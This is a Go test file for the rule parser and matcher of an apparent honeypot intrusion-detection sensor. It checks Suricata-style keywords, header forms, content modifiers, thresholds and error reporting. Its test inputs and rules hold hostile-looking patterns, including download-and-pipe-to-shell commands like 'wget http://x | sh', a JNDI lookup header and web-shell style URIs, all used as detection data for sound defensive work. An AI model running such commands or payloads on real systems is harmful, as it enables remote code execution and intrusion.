package rules

import (
	"fmt"
	"net/netip"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/lure-sensor/lure/internal/event"
)

func mustParse(t *testing.T, s string) *Rule {
	t.Helper()
	r, err := Parse(s, nil)
	if err != nil {
		t.Fatalf("Parse(%s): %v", s, err)
	}
	return r
}

func TestParseEveryKeyword(t *testing.T) {
	r := mustParse(t, `drop http $EXTERNAL_NET [1024:,!2000] -> [198.18.0.0/15,!198.18.7.9] $HTTP_PORTS (msg:"all \"keywords\"\; here"; `+
		`flow:to_server,established; http.uri; content:"/a|20 2F|b"; nocase; offset:1; depth:20; content:"x"; distance:0; within:10; `+
		`content:!"evil"; http_user_agent; content:"GET"; http_method; pcre:"/^\/A\d+/Ui"; pkt_data; content:"zz"; startswith; content:"end"; endswith; fast_pattern; `+
		`reference:url,example.test/a; reference:cve,2021-44228; classtype:web-application-attack; priority:2; metadata:created_at 2026_11_26, deployment Honeypot; `+
		`threshold:type limit, track by_src, count 2, seconds 60; detection_filter:track by_dst, count 3, seconds 10; target:src_ip; gid:1; sid:42; rev:7;)`)
	if r.Action != "drop" || r.Protocol != "http" || r.Msg != `all "keywords"; here` || r.SID != 42 || r.Rev != 7 || r.GID != 1 || r.Priority != 2 ||
		r.Classtype != "web-application-attack" || !slices.Equal(r.References, []string{"url,example.test/a", "cve,2021-44228"}) ||
		!slices.Equal(r.Metadata, []string{"created_at 2026_11_26", "deployment Honeypot"}) || !slices.Equal(r.Flow, []string{"to_server", "established"}) {
		t.Errorf("rule fields: %+v", r)
	}
	if r.Threshold == nil || *r.Threshold != (Threshold{Type: "limit", Track: "by_src", Count: 2, Seconds: time.Minute}) {
		t.Errorf("threshold = %+v", r.Threshold)
	}
	if r.DetectionFilter == nil || *r.DetectionFilter != (Threshold{Track: "by_dst", Count: 3, Seconds: 10 * time.Second}) {
		t.Errorf("detection_filter = %+v", r.DetectionFilter)
	}
	if len(r.Matches) != 7 {
		t.Fatalf("%d matches, want 7", len(r.Matches))
	}
	m := r.Matches
	if string(m[0].Content) != "/a /b" || !m[0].Nocase || m[0].Offset != 1 || m[0].Depth != 20 || m[0].Buffer != "http.uri" {
		t.Errorf("content 0 = %+v", m[0])
	}
	if !m[1].Relative || m[1].Distance != 0 || m[1].Within != 10 {
		t.Errorf("content 1 = %+v", m[1])
	}
	if !m[2].Negate || m[2].Buffer != "http.user_agent" {
		t.Errorf("content 2 (negated, legacy http_user_agent) = %+v", m[2])
	}
	if m[3].Buffer != "http.method" {
		t.Errorf("content 3 (legacy http_method) = %+v", m[3])
	}
	if m[4].Pcre == nil || m[4].Buffer != "http.uri" || !m[4].Pcre.MatchString("/a12") {
		t.Errorf("pcre with U and i = %+v", m[4])
	}
	if m[5].Buffer != "" || !m[5].StartsWith || m[6].Buffer != "" || !m[6].EndsWith {
		t.Errorf("pkt_data resets the buffer; startswith/endswith: %+v %+v", m[5], m[6])
	}
	// Header: ports and addresses with lists, ranges and negation.
	if !r.SrcPorts.match(1024) || !r.SrcPorts.match(65535) || r.SrcPorts.match(2000) || r.SrcPorts.match(80) {
		t.Error("source ports [1024:,!2000]")
	}
	if !r.Dst.match(mustAddr("198.18.7.2")) || r.Dst.match(mustAddr("198.18.7.9")) || r.Dst.match(mustAddr("10.0.0.1")) {
		t.Error("destination [198.18.0.0/15,!198.18.7.9]")
	}
	if !r.DstPorts.match(80) || r.DstPorts.match(81) {
		t.Error("$HTTP_PORTS")
	}
}

func TestParseHeaderForms(t *testing.T) {
	vars := DefaultVars("[10.0.0.0/8,192.168.0.0/16]", "!$HOME_NET")
	for _, c := range []struct {
		rule       string
		src, dst   string
		sport, dpt int
		want       bool
	}{
		{"alert tcp $EXTERNAL_NET any -> $HOME_NET 22", "203.0.113.1", "10.1.1.1", 5000, 22, true},
		{"alert tcp $EXTERNAL_NET any -> $HOME_NET 22", "10.2.2.2", "10.1.1.1", 5000, 22, false},
		{"alert tcp any any -> any [22,2222]", "203.0.113.1", "10.1.1.1", 5000, 2222, true},
		{"alert tcp any any -> any [22,2222]", "203.0.113.1", "10.1.1.1", 5000, 23, false},
		{"alert tcp any any -> any :1023", "203.0.113.1", "10.1.1.1", 5000, 23, true},
		{"alert tcp any any -> any :1023", "203.0.113.1", "10.1.1.1", 5000, 2222, false},
		{"alert tcp any any -> any !22", "203.0.113.1", "10.1.1.1", 5000, 2222, true},
		{"alert tcp any any -> any ![22,2222]", "203.0.113.1", "10.1.1.1", 5000, 2222, false},
		{"alert tcp any any -> any 2000:3000", "203.0.113.1", "10.1.1.1", 5000, 2222, true},
		{"alert tcp 2001:db8::/32 any -> any any", "2001:db8::7", "::1", 5000, 22, true},
		{"alert tcp 2001:db8::/32 any -> any any", "203.0.113.1", "::1", 5000, 22, false},
		{"alert tcp [203.0.113.0/24,![203.0.113.5,203.0.113.6]] any -> any any", "203.0.113.6", "10.0.0.1", 1, 22, false},
		{"alert tcp [203.0.113.0/24,![203.0.113.5,203.0.113.6]] any -> any any", "203.0.113.7", "10.0.0.1", 1, 22, true},
		{"alert tcp 10.0.0.1 any <> 203.0.113.9 22", "203.0.113.9", "10.0.0.1", 22, 5000, true},
		{"alert tcp 10.0.0.1 any -> 203.0.113.9 22", "203.0.113.9", "10.0.0.1", 22, 5000, false},
		{"alert ssh any any -> any any", "203.0.113.9", "10.0.0.1", 1, 22, true},
		{"alert http any any -> any any", "203.0.113.9", "10.0.0.1", 1, 22, false},
		{"alert udp any any -> any any", "203.0.113.9", "10.0.0.1", 1, 22, false},
	} {
		r, err := Parse(c.rule+` (msg:"m"; lure.command; content:"id"; sid:1;)`, vars)
		if err != nil {
			t.Errorf("%s: %v", c.rule, err)
			continue
		}
		s := NewSet([]*Rule{r})
		e := event.Event{ID: "x", EventID: event.CommandInput, SrcIP: c.src, DstIP: c.dst, SrcPort: c.sport, DstPort: c.dpt, Protocol: "ssh", Fields: map[string]any{"input": "id"}}
		got := false
		s.Inspect(e, func(Hit) { got = true })
		if got != c.want {
			t.Errorf("%s on %s:%d -> %s:%d: match %v, want %v", c.rule, c.src, c.sport, c.dst, c.dpt, got, c.want)
		}
	}
}

func TestParseErrors(t *testing.T) {
	const h = "alert tcp any any -> any any "
	for _, c := range []struct{ rule, want string }{
		{h + `(msg:"x"; content:"a";)`, "no sid"},
		{h + `(content:"a"; sid:1;)`, "no msg"},
		{h + `(msg:"x"; sid:1)`, "does not end with ';'"},
		{h + `(msg:"x; sid:1;)`, "unterminated quoted string"},
		{"alert tcp any any -> any any", "no option list"},
		{"alert tcp any -> any any (msg:\"x\"; sid:1;)", "has 6 parts"},
		{"block tcp any any -> any any (msg:\"x\"; sid:1;)", `unknown action "block"`},
		{"alert foo any any -> any any (msg:\"x\"; sid:1;)", `unknown protocol "foo"`},
		{"alert tcp any any <- any any (msg:\"x\"; sid:1;)", "direction"},
		{"alert tcp $NOPE any -> any any (msg:\"x\"; sid:1;)", "undefined variable $NOPE"},
		{"alert tcp 10.0.0.300 any -> any any (msg:\"x\"; sid:1;)", "is not an address"},
		{"alert tcp [10.0.0.1 any -> any any (msg:\"x\"; sid:1;)", "does not end with ]"},
		{"alert tcp any 70000 -> any any (msg:\"x\"; sid:1;)", "above 65535"},
		{"alert tcp any 30:20 -> any any (msg:\"x\"; sid:1;)", "ends before it starts"},
		{"alert tcp any [1,,2] -> any any (msg:\"x\"; sid:1;)", "empty element"},
		{h + `(msg:"x"; sid:0;)`, "must be positive"},
		{h + `(msg:"x"; sid:abc;)`, "not a non-negative whole number"},
		{h + `(msg:"x"; sid:1; sid:2;)`, "given twice"},
		{h + `(msg:"x"; sid:1; priority:0;)`, "outside 1-255"},
		{h + `(msg:"x"; sid:1; nocase;)`, "modifier without a content"},
		{h + `(msg:"x"; sid:1; content:"a|4|";)`, "odd number of digits"},
		{h + `(msg:"x"; sid:1; content:"a|4g|";)`, "not a hex digit"},
		{h + `(msg:"x"; sid:1; content:"a|41";)`, "not closed"},
		{h + `(msg:"x"; sid:1; content:"a\q";)`, `unknown escape \q`},
		{h + `(msg:"x"; sid:1; content:"";)`, "empty content"},
		{h + `(msg:"x"; sid:1; content:abc;)`, "want a quoted string"},
		{h + `(msg:"x"; sid:1; content:"abc"; depth:2;)`, "shorter than the content"},
		{h + `(msg:"x"; sid:1; content:"abc"; within:2;)`, "shorter than the content"},
		{h + `(msg:"x"; sid:1; content:"abc"; offset:-1;)`, "negative"},
		{h + `(msg:"x"; sid:1; content:"abc"; offset:x;)`, "byte_extract variables are not supported"},
		{h + `(msg:"x"; sid:1; content:"a"; content:"b"; offset:1; distance:2;)`, "mixes offset/depth with distance/within"},
		{h + `(msg:"x"; sid:1; content:"abc"; startswith; offset:1;)`, "cannot be combined with startswith"},
		{h + `(msg:"x"; sid:1; content:"abc"; nocase:1;)`, "takes no value"},
		{h + `(msg:"x"; sid:1; flow:sideways;)`, `unknown flow option "sideways"`},
		{h + `(msg:"x"; sid:1; threshold:type sometimes, track by_src, count 1, seconds 1;)`, "want limit, threshold or both"},
		{h + `(msg:"x"; sid:1; threshold:track by_src, count 1, seconds 1;)`, "type is missing"},
		{h + `(msg:"x"; sid:1; threshold:type limit, track by_src, count 0, seconds 1;)`, "want a positive whole number"},
		{h + `(msg:"x"; sid:1; detection_filter:type limit, track by_src, count 1, seconds 1;)`, "takes no type"},
		{h + `(msg:"x"; sid:1; detection_filter:track by_ip, count 1, seconds 1;)`, "want by_src"},
		{h + `(msg:"x"; sid:1; reference:nocomma;)`, "want TYPE,VALUE"},
		{h + `(msg:"x"; sid:1; classtype:two words;)`, "is not a class name"},
		{h + `(msg:"x"; sid:1; byte_test:4,>,1,0;)`, "unsupported keyword"},
		{h + `(msg:"x"; sid:1; pcre:"/(a)\1/";)`, `the back-reference \1 is not supported`},
		{h + `(msg:"x"; sid:1; pcre:"/(?<n>a)\k<n>/";)`, `back-reference \k`},
		{h + `(msg:"x"; sid:1; pcre:"/(?P=n)/";)`, "named back-reference"},
		{h + `(msg:"x"; sid:1; pcre:"/a(?=b)/";)`, "lookahead"},
		{h + `(msg:"x"; sid:1; pcre:"/(?<!a)b/";)`, "negative lookbehind"},
		{h + `(msg:"x"; sid:1; pcre:"/(?>a+)b/";)`, "atomic group"},
		{h + `(msg:"x"; sid:1; pcre:"/a++/";)`, "possessive quantifier"},
		{h + `(msg:"x"; sid:1; pcre:"/(a|(?R))/";)`, "recursion"},
		{h + `(msg:"x"; sid:1; pcre:"/a b/x";)`, "flag x"},
		{h + `(msg:"x"; sid:1; pcre:"/a/q";)`, "unknown pcre flag"},
		{h + `(msg:"x"; sid:1; pcre:"/a/UH";)`, "two buffers"},
		{h + `(msg:"x"; sid:1; pcre:"/a[/";)`, "not a valid RE2 expression"},
		{h + `(msg:"x"; sid:1; pcre:"a";)`, "want /regex/flags"},
		{h + `(msg:"x"; sid:1; pcre:/a/;)`, "want a quoted"},
	} {
		_, err := Parse(c.rule, nil)
		if err == nil || !strings.Contains(err.Error(), c.want) {
			t.Errorf("%s\n  error %v, want %q", c.rule, err, c.want)
		}
	}
}

func TestPCRETranslation(t *testing.T) {
	for _, c := range []struct {
		pcre, in string
		want     bool
	}{
		{`/^wget\Z/`, "wget\n", true},
		{`/^wget\Z/`, "wget x", false},
		{`/a\hb/`, "a\tb", true},
		{`/a[\h]b/`, "a b", true},
		{`/\e\[/`, "\x1b[", true},
		{`/\\(1)/`, `\1`, true}, // an escaped backslash then a group: no back-reference
		{`/[\1]/`, "1", false},  // class escapes are refused with a reason below
		{`/abc/A`, "xabc", false},
		{`/abc/A`, "abcx", true},
		{`/a.c/s`, "a\nc", true},
		{`/^b$/m`, "a\nb\nc", true},
		{`/a+?/G`, "aaa", true},
	} {
		re, _, _, err := compilePCRE(c.pcre)
		if c.pcre == `/[\1]/` {
			if err == nil {
				t.Errorf("%s: a back-reference-looking class escape must be refused with a reason", c.pcre)
			}
			continue
		}
		if err != nil {
			t.Errorf("%s: %v", c.pcre, err)
			continue
		}
		if got := re.MatchString(c.in); got != c.want {
			t.Errorf("%s on %q: %v, want %v (RE2 %s)", c.pcre, c.in, got, c.want, re)
		}
	}
}

func cmd(id, input string) event.Event {
	return event.Event{ID: id, EventID: event.CommandInput, Time: time.Date(2026, 11, 26, 9, 0, 0, 0, time.UTC), SrcIP: "203.0.113.50", SrcPort: 40000,
		DstIP: "198.18.7.2", DstPort: 2222, Protocol: "ssh", Fields: map[string]any{"input": input}}
}

func hits(s *Set, evs ...event.Event) []Hit {
	var out []Hit
	for _, e := range evs {
		s.Inspect(e, func(h Hit) { out = append(out, h) })
	}
	return out
}

func matches(t *testing.T, opts string, input string) bool {
	t.Helper()
	r := mustParse(t, `alert tcp any any -> any any (msg:"m"; `+opts+` sid:1;)`)
	return len(hits(NewSet([]*Rule{r}), cmd("e1", input))) == 1
}

func TestContentModifiers(t *testing.T) {
	for _, c := range []struct {
		opts, in string
		want     bool
	}{
		{`content:"wget";`, "cd /tmp; wget x", true},
		{`content:"WGET";`, "wget", false},
		{`content:"WGET"; nocase;`, "wget", true},
		{`content:"|77 67|et";`, "wget", true},
		{`content:"a\;b";`, "a;b", true},
		{`content:"wget"; offset:3;`, "wget", false},
		{`content:"wget"; offset:3;`, "cd wget", true},
		{`content:"wget"; depth:4;`, "wget x", true},
		{`content:"wget"; depth:5;`, " xwget", false},
		{`content:"wget"; offset:1; depth:5;`, " wget", true},
		{`content:"wget"; startswith;`, "wget", true},
		{`content:"wget"; startswith;`, " wget", false},
		{`content:"sh"; endswith;`, "wget x | sh", true},
		{`content:"sh"; endswith;`, "sh x", false},
		{`content:"wget"; content:"sh"; distance:0;`, "wget x | sh", true},
		{`content:"wget"; content:"sh"; distance:0;`, "sh; wget x", false},
		// "wget" ends at 4; "sh" spans 9-11.
		{`content:"wget"; content:"sh"; distance:0; within:7;`, "wget x | sh", true},
		{`content:"wget"; content:"sh"; distance:0; within:6;`, "wget x | sh", false},
		{`content:"wget"; content:"sh"; distance:5; within:2;`, "wget x | sh", true},
		{`content:"wget"; content:"sh"; distance:6; within:2;`, "wget x | sh", false},
		{`content:"a"; content:"b"; distance:-2; within:1;`, "ba", true},
		// Backtracking: the first "wget" has no "| sh" within 7, the second does.
		{`content:"wget"; content:"|7c| sh"; distance:0; within:7;`, "wget a; wget b | sh", true},
		{`content:"wget"; content:"|7c| sh"; distance:0; within:6;`, "wget a; wget b | sh", false},
		{`content:!"curl";`, "wget x", true},
		{`content:!"curl";`, "curl x", false},
		{`content:"wget"; content:!"sh"; distance:0;`, "sh; wget x", true},
		{`content:"wget"; content:!"sh"; distance:0;`, "wget x | sh", false},
		{`pcre:"/wget\s+\S+\s*\|\s*sh/";`, "wget http://x | sh", true},
		{`pcre:"/WGET/i";`, "wget", true},
		{`pcre:!"/curl/";`, "wget", true},
		{`content:"wget"; pcre:"/^\s+http/R";`, "wget   http://x", true},
		{`content:"wget"; pcre:"/^\s+http/R";`, "wget -q http://x", false},
		{`lure.command; content:"id";`, "id", true},
		{`http.uri; content:"id";`, "id", false}, // a command event has no URI
	} {
		if got := matches(t, c.opts, c.in); got != c.want {
			t.Errorf("%s on %q: match %v, want %v", c.opts, c.in, got, c.want)
		}
	}
}

func TestHTTPBuffers(t *testing.T) {
	rs, errs := Load("t.rules", []byte(`
alert http any any -> any any (msg:"uri"; http.uri; content:"/shell?cd"; sid:1;)
alert http any any -> any any (msg:"method+ua"; http.method; content:"POST"; http.user_agent; content:"curl/"; startswith; sid:2;)
alert http any any -> any any (msg:"header"; http.header; content:"${jndi:"; nocase; sid:3;)
alert http any any -> any any (msg:"body"; http.request_body; pcre:"/cmd=\w+/"; sid:4;)
alert http any any -> any any (msg:"host cookie line"; http.host; content:"lab"; http.cookie; content:"sess="; http.request_line; content:"HTTP/1.1"; endswith; sid:5;)
alert tcp any any -> any any (msg:"payload"; content:"|de ad|"; sid:6;)
`), nil)
	if len(errs) != 0 {
		t.Fatal(errs)
	}
	s := NewSet(rs)
	e := event.Event{ID: "h1", EventID: "lure.http.request", SrcIP: "203.0.113.60", DstIP: "198.18.7.2", DstPort: 80, Protocol: "http", Fields: map[string]any{
		"uri": "/shell?cd+/tmp", "method": "POST", "user_agent": "curl/8.0", "headers": "Host: lab\r\nX-Api: ${JNDI:ldap://x}\r\n",
		"body": "cmd=id", "host": "lab", "cookie": "sess=1", "request_line": "POST /shell?cd+/tmp HTTP/1.1", "payload": []byte{0xde, 0xad},
	}}
	var sids []int
	for _, h := range hits(s, e) {
		sids = append(sids, h.Rule.SID)
	}
	slices.Sort(sids)
	if !slices.Equal(sids, []int{1, 2, 3, 4, 5, 6}) {
		t.Errorf("HTTP event matched sids %v, want 1-6", sids)
	}
	e.Fields = map[string]any{"uri": "/index.html", "method": "GET"}
	if h := hits(s, e); len(h) != 0 {
		t.Errorf("a plain GET matched %v", h)
	}
}

func TestThresholdAndDetectionFilter(t *testing.T) {
	run := func(opts string, n int, gap time.Duration) []int {
		r := mustParse(t, `alert tcp any any -> any any (msg:"m"; content:"x"; `+opts+` sid:1;)`)
		s := NewSet([]*Rule{r})
		var at []int
		for i := range n {
			e := cmd(fmt.Sprint("e", i), "x")
			e.Time = e.Time.Add(time.Duration(i) * gap)
			s.Inspect(e, func(h Hit) { at = append(at, i) })
		}
		return at
	}
	for _, c := range []struct {
		opts string
		n    int
		gap  time.Duration
		want []int
	}{
		{`threshold:type limit, track by_src, count 2, seconds 60;`, 6, time.Second, []int{0, 1}},
		{`threshold:type limit, track by_src, count 1, seconds 10;`, 6, 4 * time.Second, []int{0, 3}},
		{`threshold:type threshold, track by_src, count 3, seconds 60;`, 7, time.Second, []int{2, 5}},
		{`threshold:type both, track by_rule, count 3, seconds 60;`, 7, time.Second, []int{2}},
		{`detection_filter:track by_src, count 3, seconds 60;`, 6, time.Second, []int{3, 4, 5}},
		{`detection_filter:track by_src, count 3, seconds 2;`, 6, time.Second, nil},
	} {
		if got := run(c.opts, c.n, c.gap); !slices.Equal(got, c.want) {
			t.Errorf("%s: alerts at %v, want %v", c.opts, got, c.want)
		}
	}
	// by_src keeps sources apart; the evidence names the counted events.
	r := mustParse(t, `alert tcp any any -> any any (msg:"m"; content:"x"; detection_filter:track by_src, count 1, seconds 60; sid:1;)`)
	s := NewSet([]*Rule{r})
	a, b := cmd("a1", "x"), cmd("b1", "x")
	b.SrcIP = "203.0.113.51"
	a2 := cmd("a2", "x")
	h := hits(s, a, b, a2)
	if len(h) != 1 || !slices.Equal(h[0].Evidence, []string{"a1", "a2"}) {
		t.Errorf("detection_filter by_src: %+v", h)
	}
}

func TestPassAndFlow(t *testing.T) {
	rs, errs := Load("t.rules", []byte(`
alert tcp any any -> any any (msg:"wget"; content:"wget"; sid:1;)
pass tcp any any -> any any (msg:"our updater"; content:"wget https://updates.lab.test/"; sid:2;)
alert tcp any any -> any any (msg:"to client"; flow:to_client; content:"wget"; sid:3;)
alert tcp any any -> any any (msg:"stateless"; flow:stateless; content:"wget"; sid:4;)
`), nil)
	if len(errs) != 0 {
		t.Fatal(errs)
	}
	s := NewSet(rs)
	var sids []int
	for _, h := range hits(s, cmd("1", "wget http://203.0.113.9/x")) {
		sids = append(sids, h.Rule.SID)
	}
	if !slices.Equal(sids, []int{1, 4}) {
		t.Errorf("sids %v, want [1 4] (to_client never matches client input)", sids)
	}
	if h := hits(s, cmd("2", "wget https://updates.lab.test/x")); len(h) != 0 {
		t.Errorf("a pass rule must silence the others: %v", h)
	}
}

func TestOnlyEventsWithBuffersAreInspected(t *testing.T) {
	r := mustParse(t, `alert tcp any any -> any any (msg:"any"; sid:1;)`)
	s := NewSet([]*Rule{r})
	for _, id := range []string{event.SessionConnect, event.LoginFailed, event.TCPSyn, event.TCPConnect} {
		if h := hits(s, event.Event{EventID: id, SrcIP: "203.0.113.1", Fields: map[string]any{"username": "root"}}); len(h) != 0 {
			t.Errorf("a header-only rule fired on %s", id)
		}
	}
	if h := hits(s, cmd("c", "ls")); len(h) != 1 {
		t.Error("a header-only rule must fire on a command")
	}
}

func TestLoadReportsBadRulesAndKeepsTheRest(t *testing.T) {
	file := `# comment
alert tcp any any -> any any (msg:"good one"; content:"a"; sid:1;)

alert tcp any any -> any any (msg:"bad"; pcre:"/(x)\1/"; sid:2;)
alert tcp any any -> any any (msg:"continued"; \
  content:"b"; \
  sid:3;)
alert tcp any any -> any any (msg:"dup"; content:"c"; sid:1;)
nonsense
alert tcp any any -> any any (msg:"last"; content:"d"; sid:4;)
`
	rs, errs := Load("my.rules", []byte(file), nil)
	var sids []int
	for _, r := range rs {
		sids = append(sids, r.SID)
	}
	if !slices.Equal(sids, []int{1, 3, 4}) {
		t.Errorf("loaded sids %v, want [1 3 4]", sids)
	}
	if rs[1].Line != 5 || rs[1].File != "my.rules" {
		t.Errorf("continued rule at %s:%d, want my.rules:5", rs[1].File, rs[1].Line)
	}
	want := []string{
		"my.rules:4: rule sid 2 skipped: pcre: the back-reference \\1 is not supported",
		"my.rules:8: rule sid 1 skipped: sid 1 is already used by the rule on line 2",
		"my.rules:9: rule skipped: want ACTION PROTO",
	}
	if len(errs) != len(want) {
		t.Fatalf("errors %v, want %d", errs, len(want))
	}
	for i, w := range want {
		if !strings.HasPrefix(errs[i].Error(), w) {
			t.Errorf("error %d = %q, want it to start with %q", i, errs[i], w)
		}
	}
}

func TestLoadFiles(t *testing.T) {
	dir := t.TempDir()
	p := filepath.Join(dir, "local.rules")
	os.WriteFile(p, []byte(`alert tcp any any -> any any (msg:"mine"; content:"zz"; sid:1000001;)
alert tcp any any -> any any (msg:"clash"; content:"zz"; sid:9100001;)
`), 0o600)
	rs, errs := LoadFiles(true, []string{p, filepath.Join(dir, "missing.rules")}, nil)
	builtin, _ := Load(BuiltinName, Builtin(), nil)
	if len(rs) != len(builtin)+1 {
		t.Errorf("%d rules, want the %d built-in ones and one local", len(rs), len(builtin))
	}
	if len(errs) != 2 || !strings.Contains(errs[0].Error(), "missing.rules") || !strings.Contains(errs[1].Error(), "local.rules:2: rule sid 9100001 skipped: sid 9100001 is already used by builtin:lure.rules") {
		t.Errorf("errors = %v", errs)
	}
}

func mustAddr(s string) netip.Addr { return netip.MustParseAddr(s) }
